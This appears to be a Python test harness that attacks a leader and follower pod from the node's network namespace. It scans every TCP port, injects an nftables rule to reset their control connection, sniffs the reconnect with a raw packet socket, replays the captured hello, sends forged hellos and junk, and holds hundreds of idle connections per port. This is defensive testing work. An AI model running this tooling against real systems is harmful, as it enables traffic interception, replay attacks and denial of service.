"""Attacks pods from their network as a stranger that no NetworkPolicy stops.

Runs as a process in the node's namespaces. It reads JSON from stdin: the pods (`pods`: IP of the leader, and
of the follower), and forged hellos (`forged`, base64). It scans ports, records what the follower sends to the
leader after a reset of their connection, holds 300 idle connections on each port, and sends random data, the
hellos and the recording. It prints the answers as JSON. Stdlib only; imports no product code.
"""

import asyncio
import base64
import contextlib
import json
import resource
import socket
import subprocess
import sys
import threading
import time
from typing import Any

CONTROL_PORT = 29499
IDLE = 300
AT_ONCE = 400
LISTENS_S = 8.0
"""Longer than our ports hold a connection that has not authenticated."""
RECORDS_S = 15.0
RESETS_S = 0.3
"""Longer than between two heartbeats, and far shorter than the silence that ends an epoch."""
SCAN_TIMEOUT_S = 3.0
TABLE = "heteroinfer_stranger"
NONSENSE = (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\x00" * 5000 + b"\n", b"\n", bytes(range(256)) * 40)
ASKS = tuple(f"GET /{path} HTTP/1.0\r\n\r\n".encode() for path in ("group", "readyz", "healthz", "metrics"))
SPEAK_HTTP = (8081, 9400)


async def scan(address: str) -> list[int]:
    """Returns the TCP ports of a pod that accept connections."""
    limit = asyncio.Semaphore(AT_ONCE)
    found: list[int] = []

    async def dial(port: int) -> None:
        async with limit:
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(SCAN_TIMEOUT_S):
                    _, writer = await asyncio.open_connection(address, port)
                writer.close()
                found.append(port)

    await asyncio.gather(*(dial(port) for port in range(1, 65536)))
    return sorted(found)


async def answer_to(address: str, port: int, sent: bytes) -> bytes:
    """Sends some bytes, and returns the answer until the connection is closed or silent."""
    got = b""
    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout(LISTENS_S):
            reader, writer = await asyncio.open_connection(address, port)
            with contextlib.closing(writer):
                writer.write(sent)
                await writer.drain()
                while chunk := await reader.read(65536):
                    got += chunk
    return got


class Recorder:
    """Records the payload of the newest connection to the leader's control port, as the node forwards it."""

    def __init__(self, leader: str) -> None:
        self._leader = socket.inet_aton(leader)
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
        self._socket.settimeout(0.2)
        self._parts: dict[int, dict[int, bytes]] = {}
        self._ended = False
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._ended:
            with contextlib.suppress(TimeoutError):
                self._note(self._socket.recv(65536))

    def _note(self, packet: bytes) -> None:
        """Records the payload of an IPv4 TCP packet to the leader's control port, by its source port."""
        if len(packet) < 40 or packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_TCP:
            return
        header = (packet[0] & 15) * 4
        tcp, total = packet[header:], int.from_bytes(packet[2:4])
        target, source = int.from_bytes(tcp[2:4]), int.from_bytes(tcp[:2])
        if packet[16:20] != self._leader or target != CONTROL_PORT:
            return
        payload = packet[header + (tcp[12] >> 4) * 4 : total]
        sequence = int.from_bytes(tcp[4:8])
        if tcp[13] & 2:  # SYN: a connection begins
            self._parts[source] = {}
        elif payload and source in self._parts:
            self._parts[source][sequence] = payload

    @property
    def recorded(self) -> bytes:
        """Returns the data that the follower sent on the newest connection whose begin was recorded."""
        parts = next((parts for parts in reversed(self._parts.values()) if len(parts) > 1), {})
        return b"".join(parts[sequence] for sequence in sorted(parts))

    def end(self) -> None:
        self._ended = True
        self._thread.join(2)
        self._socket.close()


def record(leader: str, follower: str) -> bytes:
    """Returns the data that the follower sends when it connects again after a reset by the node."""
    recorder = Recorder(leader)
    # SYNs pass: an attacker off the path can reset a connection by guessing its numbers, but cannot block the
    # next one.
    of = f"ip saddr {follower} ip daddr {leader} tcp dport {CONTROL_PORT} tcp flags & syn == 0x0"
    rule = f"{of} reject with tcp reset"
    chain = f"chain forward {{ type filter hook forward priority -100; {rule}\n}}"
    try:
        run_nft(f"table inet {TABLE} {{\n{chain}\n}}\n")
        time.sleep(RESETS_S)
        run_nft(f"delete table inet {TABLE}\n")
        until = time.monotonic() + RECORDS_S
        while not recorder.recorded and time.monotonic() < until:
            time.sleep(0.1)
    finally:
        recorder.end()
    return recorder.recorded


def run_nft(script: str) -> None:
    subprocess.run(["nft", "-f", "-"], input=script, text=True, check=True)


async def attack(order: dict[str, Any]) -> dict[str, Any]:
    """Runs the attack, and returns the open ports and the answers by port."""
    leader, follower = order["pods"]
    recorded = await asyncio.to_thread(record, leader, follower)
    began = time.monotonic()
    found = {address: await scan(address) for address in (leader, follower)}
    scanned_s = time.monotonic() - began
    forged = [base64.b64decode(text) for text in order["forged"]]
    idle, refused = await hold_idle(found)
    asked = [
        (address, port, sent)
        for address, ports in found.items()
        for port in ports
        for sent in (*NONSENSE, *(ASKS if port in SPEAK_HTTP else ()))
    ]
    asked += [(leader, CONTROL_PORT, sent) for sent in (*forged, recorded, recorded[: len(recorded) // 2])]
    answers = await asyncio.gather(*(answer_to(*each) for each in asked))
    for writer in idle:
        writer.close()
    return {
        "open": found,
        "scanned_s": scanned_s,
        "idle_refused": refused,
        "recorded": base64.b64encode(recorded).decode(),
        "answers": [
            {"pod": address, "port": port, "said": sent[:40].decode(errors="replace"),
             "got": base64.b64encode(got).decode()}
            for (address, port, sent), got in zip(asked, answers, strict=True)
        ],
    }  # fmt: skip


async def hold_idle(found: dict[str, list[int]]) -> tuple[list[asyncio.StreamWriter], dict[str, int]]:
    """Holds idle connections on every port. Returns them, and the number of refused ones by port."""
    held: list[asyncio.StreamWriter] = []
    refused: dict[str, int] = {}

    async def hold(address: str, port: int) -> None:
        try:
            async with asyncio.timeout(SCAN_TIMEOUT_S):
                _, writer = await asyncio.open_connection(address, port)
        except (OSError, TimeoutError):
            refused[f"{address}:{port}"] = refused.get(f"{address}:{port}", 0) + 1
        else:
            held.append(writer)

    for address, ports in found.items():
        for port in ports:
            await asyncio.gather(*(hold(address, port) for _ in range(IDLE)))
    return held, refused


def main() -> None:
    """Runs the order from stdin, and prints the results."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    print(json.dumps(asyncio.run(attack(json.load(sys.stdin)))))


if __name__ == "__main__":
    main()
